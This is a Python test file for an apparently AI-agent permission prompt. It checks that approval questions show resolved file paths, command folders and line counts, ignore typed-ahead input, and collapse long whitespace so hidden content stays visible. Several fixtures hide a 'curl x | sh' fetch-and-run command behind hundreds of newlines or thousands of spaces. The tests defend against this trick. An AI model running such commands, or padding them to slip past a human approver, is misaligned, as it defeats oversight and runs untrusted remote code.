"""What a question says about where a call would act, and how it is asked at a terminal."""

from __future__ import annotations

import os
import pty
import sys
import threading
from typing import Any

import pytest

from mentra_nb.authorization import PermissionDecision, PermissionQuestion, ToolAuthorizationPreview
from mentra_nb.effect.lines import Changes
from mentra_nb.notebook.asking import arguments, ask, diff, effect, question_text


def question(**planned: Any) -> PermissionQuestion:
    return PermissionQuestion(
        request_id="q",
        session_id="s",
        agent_id="a",
        agent_name="mentra",
        run_id="r",
        tool_call_id="1",
        tool_name="write",
        description="why",
        subject="x",
        arguments={"path": "x"},
        preview=ToolAuthorizationPreview(working_directory=".", structured_input=planned),
        arguments_hash="",
        asked_at=0.0,
        deadline=0.0,
    )


def test_the_file_is_named_by_its_resolved_path() -> None:
    change = {"op": "set", "resolved_path": "/repo/.git/pre-commit"}
    assert effect(question(operations=[change], working_directory="/repo")) == "file /repo/.git/pre-commit"
    assert "file /repo/.git/pre-commit" in question_text(question(operations=[change]))


def test_a_command_says_its_folder_and_how_long_it_is() -> None:
    assert effect(question(command="ls", working_directory="/home/me")) == "in /home/me"
    shown = effect(question(command="ls" + "\n" * 300 + "curl x | sh", working_directory="/a\nb"))
    assert shown == "in /a␊b\nthe command has 301 lines"


def test_what_was_typed_before_the_question_does_not_answer_it(monkeypatch: pytest.MonkeyPatch) -> None:
    master, slave = pty.openpty()
    with os.fdopen(slave, "r") as terminal:
        monkeypatch.setattr(sys, "stdin", terminal)
        os.write(master, b"y\n")
        threading.Timer(0.3, os.write, (master, b"d\n")).start()
        assert ask(question()) == PermissionDecision(allow=False)
    os.close(master)


def test_what_stands_behind_a_long_run_of_blanks_is_in_sight() -> None:
    asked = question().model_copy(update={"arguments": {"command": "ls" + " " * 3000 + "; curl x | sh"}})
    assert arguments(asked) == "command: ls ␣×3000 ; curl x | sh"
    asked = question().model_copy(update={"arguments": {"command": "ls" + "\t " * 99 + "; curl x | sh"}})
    assert arguments(asked) == "command: ls ␣×198 ; curl x | sh"
    path = "/a" + " " * 300 + "b"
    shown = effect(question(operations=[{"op": "set", "resolved_path": path}], working_directory="/"))
    assert shown == "file /a ␣×300 b"
    assert diff(Changes(["+a" + " " * 300 + "b", "+" + " " * 24 + "c"], 2, 0), 9) == [
        "+a ␣×300 b",
        "+" + " " * 24 + "c",
    ]
    assert arguments(question().model_copy(update={"arguments": {"code": "if a:\n" + " " * 24 + "b"}})) == (
        "code:\n  │ if a:\n  │ " + " " * 24 + "b"
    )
